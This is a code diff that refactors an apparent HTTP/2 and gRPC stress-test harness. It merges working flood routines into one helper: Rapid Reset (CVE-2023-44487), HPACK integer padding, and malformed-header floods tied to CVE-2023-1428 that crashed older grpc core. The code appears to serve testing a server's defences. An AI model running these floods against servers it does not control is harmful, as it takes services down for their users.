@@ -68,26 +68,32 @@ def _raw_connection(port: int, deadline: float) -> socket.socket:
     return sock
 
 
-def rapid_reset(port: int, path: str, seconds: float, batch: int = 100) -> dict:
-    """CVE-2023-44487: send a whole request (HEADERS, then an empty gRPC message that ends the stream) and cancel it
-    at once (RST_STREAM CANCEL), as fast as possible, reading what the server says only when it pushes back."""
+def _stream_flood(port: int, seconds: float, per_stream, batch: int, read: bool) -> dict:
+    """New streams on one connection (`per_stream(stream id)`: its frames), `batch` at a time, for `seconds`; connected
+    again when the server closes; `read`: read what the server says after each batch, not only when it pushes back."""
     deadline = time.monotonic() + seconds
-    block = hpack.Encoder().encode(request_headers(port, path))
-    message = b"\x00\x00\x00\x00\x00"  # gRPC's length-prefixed message: not compressed, 0 bytes
-    cancel = struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
     connections, streams, closed = 0, 0, 0
     while time.monotonic() < deadline:
         sock, connections = _raw_connection(port, deadline), connections + 1
         stream, alive = 1, True
         while alive and time.monotonic() < deadline and stream < (1 << 31) - 2 * batch:
-            burst = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message) +
-                             frame(RST_STREAM, 0, s, cancel) for s in range(stream, stream + 2 * batch, 2))
+            burst = b"".join(per_stream(s) for s in range(stream, stream + 2 * batch, 2))
             stream += 2 * batch
             streams += batch
-            alive = _send(sock, burst, deadline)
+            alive = _send(sock, burst, deadline) and (not read or _drain(sock))
         closed += not alive and time.monotonic() < deadline
         sock.close()
     return {"connections": connections, "streams": streams, "closed_by_server": closed}
+
+
+def rapid_reset(port: int, path: str, seconds: float) -> dict:
+    """CVE-2023-44487: send a whole request (HEADERS, then an empty gRPC message that ends the stream) and cancel it
+    at once (RST_STREAM CANCEL), as fast as possible, reading what the server says only when it pushes back."""
+    block = hpack.Encoder().encode(request_headers(port, path))
+    message = b"\x00\x00\x00\x00\x00"  # gRPC's length-prefixed message: not compressed, 0 bytes
+    cancel = struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
+    return _stream_flood(port, seconds, lambda s: frame(HEADERS, END_HEADERS, s, block) +
+                         frame(DATA, END_STREAM, s, message) + frame(RST_STREAM, 0, s, cancel), 100, read=False)
 
 
 def continuation_flood(port: int, path: str, seconds: float, piece: int = 4096) -> dict:
@@ -121,47 +127,23 @@ def continuation_flood(port: int, path: str, seconds: float, piece: int = 4096) 
 def hpack_integer_padding(port: int, path: str, seconds: float, padding: int = 4000) -> dict:
     """HPACK integers padded with thousands of 0x80 continuation bytes (a value of 0 said at great length), on many
     streams: a parser must bound an integer's bytes, not read them all."""
-    deadline = time.monotonic() + seconds
     block = hpack.Encoder().encode(request_headers(port, path))
     # an indexed header field (0b1xxxxxxx) whose index is 127 + 0 + 0 + ... (padding bytes 0x80, then 0x00)
     padded = block + b"\xff" + b"\x80" * padding + b"\x00"
-    connections, streams, closed = 0, 0, 0
-    while time.monotonic() < deadline:
-        sock, connections = _raw_connection(port, deadline), connections + 1
-        stream, alive = 1, True
-        while alive and time.monotonic() < deadline and stream < (1 << 31) - 200:
-            burst = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * i, padded) for i in range(50))
-            stream += 100
-            streams += 50
-            alive = _send(sock, burst, deadline) and _drain(sock)
-        closed += not alive and time.monotonic() < deadline
-        sock.close()
-    return {"connections": connections, "streams": streams, "closed_by_server": closed}
+    return _stream_flood(port, seconds, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, padded), 50, read=True)
 
 
 def crafted_headers(port: int, path: str, seconds: float) -> dict:
     """CVE-2023-1428 and its neighbours: requests whose `te`, `:scheme` or `grpclb_client_stats` headers are not
     what gRPC expects, followed by a header that takes the block past 8 KB (the two together reached an abort() in
     grpc core before 1.53), sent over and over."""
-    deadline = time.monotonic() + seconds
     base = dict(request_headers(port, path))
     pad = {"x-pad": "p" * 9000}
     variants = [{**base, "te": "x", **pad}, {**base, ":scheme": "x", **pad}, {**base, "grpclb_client_stats": "x", **pad},
                 {**base, "te": "x", ":scheme": "x", "grpclb_client_stats": "x", **pad}]
     blocks = [hpack.Encoder().encode(list(v.items())) for v in variants]
-    connections, streams, closed = 0, 0, 0
-    while time.monotonic() < deadline:
-        sock, connections = _raw_connection(port, deadline), connections + 1
-        stream, alive = 1, True
-        while alive and time.monotonic() < deadline and stream < (1 << 31) - 200:
-            burst = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * i, blocks[i % len(blocks)])
-                             for i in range(40))
-            stream += 80
-            streams += 40
-            alive = _send(sock, burst, deadline) and _drain(sock)
-        closed += not alive and time.monotonic() < deadline
-        sock.close()
-    return {"connections": connections, "streams": streams, "closed_by_server": closed}
+    return _stream_flood(port, seconds, lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s,
+                                                        blocks[(s // 2) % len(blocks)]), 40, read=True)
 
 
 def connection_burst(port: int, seconds: float, count: int = 3000) -> dict:
